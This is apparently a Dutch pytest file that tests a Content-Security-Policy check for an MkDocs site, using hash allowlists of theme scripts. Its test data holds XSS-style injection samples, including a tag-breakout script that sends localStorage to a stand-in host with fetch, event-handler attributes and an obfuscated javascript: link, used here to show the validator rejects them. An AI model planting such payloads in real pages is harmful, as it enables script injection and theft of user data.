"""De Content-Security-Policy laat alleen de scripts toe die de site zelf meebrengt (src/leidraadsite/data/csp.yml).

Elk ander inline script, stijlblok, ``on…=``-kenmerk of ``javascript:``-link laat de bouw stoppen, met het bestand en
de bron. De controlesommen op de lijst worden hier opnieuw berekend uit de sjablonen in de geïnstalleerde pakketten
(niet uit de gebouwde site), zodat een bijgewerkt thema opvalt.
"""

from __future__ import annotations

import base64
import hashlib
import re
from importlib import metadata
from pathlib import Path

import pytest

from conftest import een_keer_per_run, kopieer_project, mkdocs_build
from leidraadsite.nabouw import csp

LIJST = csp.laad_toegestaan()
MERK = "CSPMERK"


def _sha(tekst: str) -> str:
    return hashlib.sha256(tekst.encode("utf-8")).hexdigest()


def _bron(hex_: str) -> str:
    return "'sha256-" + base64.b64encode(bytes.fromhex(hex_)).decode() + "'"


def _script(naam: str) -> csp.Script:
    return next(s for s in LIJST.scripts if s.naam == naam)


def _pakketmap(pakket: str, module: str) -> Path:
    return Path(metadata.distribution(pakket).locate_file(module))


def test_de_lijst_is_opgenomen_met_de_geinstalleerde_versies():
    for pakket, versie in LIJST.versies.items():
        assert metadata.version(pakket) == versie, (
            f"{pakket} {metadata.version(pakket)} is geïnstalleerd, de lijst csp.yml is opgenomen met {versie}: "
            "controleer de inline scripts van het thema en pas de lijst aan")


SJABLONEN = _pakketmap("mkdocs-material", "material") / "templates" / "partials" / "javascripts"


def _opstart(basis: str) -> str:
    """Material's opstartscript, zoals het sjabloon het in een pagina zet met dit pad naar de hoofdmap."""
    sjabloon = re.search(r"<script>(.*?)</script>", (SJABLONEN / "base.html").read_text(encoding="utf-8"), re.S).group(1)
    assert sjabloon.count("{{ config.extra.scope | d(base_url) }}") == 1 and sjabloon.count("{{") == 1
    return sjabloon.replace("{{ config.extra.scope | d(base_url) }}", basis)


def test_controlesommen_komen_overeen_met_de_sjablonen_van_material_en_print_site():
    sjablonen = SJABLONEN
    assert _script("material-opstart").sha256 == _sha(_opstart("{basis}"))
    tabbladen = re.findall(r"<script>(.*?)</script>", (sjablonen / "content.html").read_text(encoding="utf-8"), re.S)
    assert _script("material-tabbladen").sha256 == _sha(tabbladen[-1])
    plugin = (_pakketmap("mkdocs-print-site-plugin", "mkdocs_print_site_plugin") / "plugin.py").read_text(encoding="utf-8")
    sjabloon = re.search(r'<script type="text/javascript">(.*?)</script>', plugin, re.S).group(1)
    aanroepen = "remove_material_navigation();remove_mkdocs_theme_navigation();generate_toc();"
    assert _script("print-site").sha256 == _sha(sjabloon.replace("%s", aanroepen))


OPSTART = f"<script>{_opstart('../..')}</script>"


def _pagina(lichaam: str) -> str:
    return f"<!doctype html><html><head><title>t</title></head><body>\n{lichaam}\n</body></html>"


# Elk stuk dat niet op de lijst staat, met het stuk tekst dat de melding moet noemen.
ONBEKEND = [
    ("inline-script", f"<script>window.{MERK}=1</script>", "inline <script> dat niet op de lijst staat"),
    ("script-in-titel", f"<h1>Casus Jansen</title><script>fetch('//x/?'+localStorage.{MERK})</script></h1>",
     "inline <script> dat niet op de lijst staat"),
    ("module", f'<script type="module">window.{MERK}=1</script>', "inline <script> dat niet op de lijst staat"),
    ("onbekend-type", f'<script type="text/x-{MERK}">1</script>', "inline <script> dat niet op de lijst staat"),
    ("gegevens-onbekend-id", f'<script type="application/json" id="{MERK}">{{}}</script>', "gegevensblok"),
    ("stijl", f"<style>body{{background:url(//x/{MERK})}}</style>", "<style>-blok"),
    ("stijl-bijna-print", f"<style>.print-site-enumerate-headings #a > h1:before {{ content: '1 ' }}\n"
                          f"body{{background:url(//x/{MERK})}}</style>", "<style>-blok"),
    ("onerror", f'<img src="x" onerror="window.{MERK}=1">', "on…= of javascript:"),
    ("onclick-hoofdletters", f'<p OnClick="window.{MERK}=1">p</p>', "on…= of javascript:"),
    ("svg-onload", f'<svg onload="window.{MERK}=1"></svg>', "on…= of javascript:"),
    ("javascript-link", f'<a href=" JaVa\tScRiPt:window.{MERK}=1">a</a>', "on…= of javascript:"),
    ("extern-script", f'<script src="https://cdn.example.invalid/{MERK}.js"></script>', "andere host"),
    ("extern-zonder-schema", f'<script src="//cdn.example.invalid/{MERK}.js"></script>', "andere host"),
    ("meta-refresh", '<meta http-equiv="Refresh" content="0;url=https://x.invalid/">', "een pagina van de site gebruikt geen"),
    ("base", '<base href="https://x.invalid/">', "een pagina van de site gebruikt geen <base>"),
    ("iframe", '<iframe src="https://x.invalid/"></iframe>', "een pagina van de site gebruikt geen <iframe>"),
    ("object", '<object data="x.swf"></object>', "een pagina van de site gebruikt geen <object>"),
    ("opstart-met-ander-pad", OPSTART.replace('"../.."', '"https://x.invalid/"'),
     "inline <script> dat niet op de lijst staat"),
    ("opstart-met-aanvulling", OPSTART.replace("</script>", f";window.{MERK}=1</script>"),
     "inline <script> dat niet op de lijst staat"),
]


@pytest.mark.parametrize(("naam", "stuk", "melding"), ONBEKEND, ids=[n for n, _, _ in ONBEKEND])
def test_alles_wat_niet_op_de_lijst_staat_is_een_probleem_en_komt_niet_in_de_policy(naam, stuk, melding):
    html = _pagina(stuk)
    problemen = csp.controleer(html)
    assert len(problemen) == 1, problemen
    assert problemen[0].startswith("regel 2: ") and melding in problemen[0], problemen
    inhoud = re.search(r"<(script|style)[^>]*>(.*?)</\1>", stuk, re.S)
    if inhoud:
        assert _bron(_sha(inhoud.group(2))) not in csp.policy(html), "het stuk staat toch in de policy"


def test_de_bekende_stukken_zijn_geen_probleem_en_staan_in_de_policy():
    tabblad = ('<script>var target=document.getElementById(location.hash.slice(1));target&&target.name&&'
               '(target.checked=target.name.startsWith("__tabbed_"))</script>')
    nummering = ("<style>.print-site-enumerate-headings #over > h1:before { content: '8.1 ' }\n"
                 "  .print-site-enumerate-headings #over h2:before { content: '8.1.' counter(counter-over-2) ' ' }\n"
                 "  .print-site-enumerate-headings #over h2 {  counter-increment: counter-over-2 }\n</style>")
    kopregels = ('<style id="print-kopregels">\n#print-site-page section.print-page[id="over"] { page: webadres-over; }\n'
                 '@page webadres-over { @top-left { content: "https://example.nl/over/"; } }\n</style>')
    gegevens = '<script id="__config" type="application/json">{"base": ".."}</script>'
    html = _pagina("\n".join([OPSTART, tabblad, nummering, kopregels, gegevens,
                              '<script src="../javascripts/rekenhulp.js"></script>']))
    assert csp.controleer(html) == []
    pol = csp.policy(html)
    for stuk in (OPSTART, tabblad):
        assert _bron(_sha(re.search(r"<script>(.*)</script>", stuk, re.S).group(1))) in pol
    assert pol.count("'sha256-") == 4, pol


def test_met_policy_zet_de_meta_als_eerste_in_head_en_headers_heeft_frame_ancestors():
    html = csp.met_policy(_pagina(OPSTART))
    assert re.search(r'<head>\n    <meta http-equiv="Content-Security-Policy" content="default-src \'self\'; '
                     r"script-src 'self' 'sha256-", html)
    headers = csp.headers({"/": "default-src 'self'", "/over/": "default-src 'none'"})
    assert "/over/\n  Content-Security-Policy: default-src 'none'; frame-ancestors 'none'\n" in headers
    assert "/*\n" in headers and "X-Frame-Options: DENY" in headers and "X-Content-Type-Options: nosniff" in headers


def test_gebouwde_site_heeft_geen_onbekend_script_en_een_headers_bestand(site):
    fouten = {}
    for pad in site.rglob("*.html"):
        problemen = csp.controleer(pad.read_text(encoding="utf-8"))
        if problemen:
            fouten[pad.relative_to(site).as_posix()] = problemen
    assert not fouten, fouten
    headers = (site / "_headers").read_text(encoding="utf-8")
    for adres in ("/", "/casussen/begeleidingsbehoefte-en-regime/", "/printversie/", "/rekenhulp/"):
        meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">',
                         (site / adres.lstrip("/") / "index.html").read_text(encoding="utf-8")).group(1)
        assert f"\n{adres}\n  Content-Security-Policy: {meta}; frame-ancestors 'none'\n" in headers, adres


# Wat een bijdrager in een pagina (Markdown met ruwe HTML) kan zetten; elk geval in een eigen pagina van één kopie
# van het project, één keer gebouwd (de controle na de bouw meldt elke pagina; elk geval zoekt zijn eigen regel).
IN_EEN_PAGINA = [
    ("script", "over", f"<script>window.{MERK} = 1</script>", "inline <script> dat niet op de lijst staat"),
    ("onerror", "toegankelijkheid", f'<img alt="" src="data:," onerror="window.{MERK}=1">', "on…= of javascript:"),
    ("stijl", "verantwoording", f"<style>.md-typeset {{ color: red }} /* {MERK} */</style>", "<style>-blok"),
]


@pytest.fixture(scope="session")
def bouw_met_script_in_paginas(tmp_path_factory: pytest.TempPathFactory) -> str:
    """De uitvoer van de strenge bouw van een kopie met elk geval uit IN_EEN_PAGINA in zijn eigen pagina."""

    def maak(map_: Path) -> None:
        project = kopieer_project(map_ / "project")
        for _, naam, html, _ in IN_EEN_PAGINA:
            pagina = project / "docs" / f"{naam}.md"
            pagina.write_text(pagina.read_text(encoding="utf-8") + f"\n\n{html}\n", encoding="utf-8")
        resultaat = mkdocs_build(project, map_ / "site")
        (map_ / "uitvoer").write_text(f"{resultaat.returncode}\n{resultaat.stdout}{resultaat.stderr}", encoding="utf-8")

    map_ = een_keer_per_run(tmp_path_factory, "csp-in-paginas", maak)
    return (map_ / "uitvoer").read_text(encoding="utf-8")


@pytest.mark.parametrize(("geval", "naam", "html", "melding"), IN_EEN_PAGINA, ids=[g for g, _, _, _ in IN_EEN_PAGINA])
def test_bouw_stopt_bij_een_onbekend_script_in_een_pagina_met_bestand_en_bron(bouw_met_script_in_paginas, geval, naam,
                                                                               html, melding):
    code, uitvoer = bouw_met_script_in_paginas.split("\n", 1)
    assert code != "0", "de bouw had moeten stoppen"
    assert "Script of stijl in de gebouwde site dat niet op de lijst staat" in uitvoer, uitvoer[-2000:]
    regels = [r for r in uitvoer.splitlines() if r.startswith(f"{naam}/index.html (bron: docs/{naam}.md): regel ")]
    assert regels and melding in regels[0], uitvoer[-2000:]
    assert "Traceback" not in uitvoer


def test_de_stap_leest_elke_pagina_een_keer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """De controle en de policy gebruiken dezelfde gelezen stukken: elke pagina gaat één keer door de HTML-lezer (bij
    de echte site was dat 40% van de bouwtijd, twee keer lezen). De uitkomst is dezelfde: een policy per pagina."""
    for naam in ("index.html", "a/index.html"):
        (tmp_path / naam).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / naam).write_text("<!doctype html><html><head><title>x</title></head><body><p>x</p></body></html>",
                                     encoding="utf-8")
    gelezen: list[int] = []
    echt = csp.lees_stukken

    def tel(html: str) -> list:
        gelezen.append(len(html))
        return echt(html)

    monkeypatch.setattr(csp, "lees_stukken", tel)
    csp.beveilig_site(tmp_path, {})
    assert len(gelezen) == 2, gelezen
    for naam in ("index.html", "a/index.html"):
        assert '<meta http-equiv="Content-Security-Policy" content="default-src \'self\'' in \
            (tmp_path / naam).read_text(encoding="utf-8")
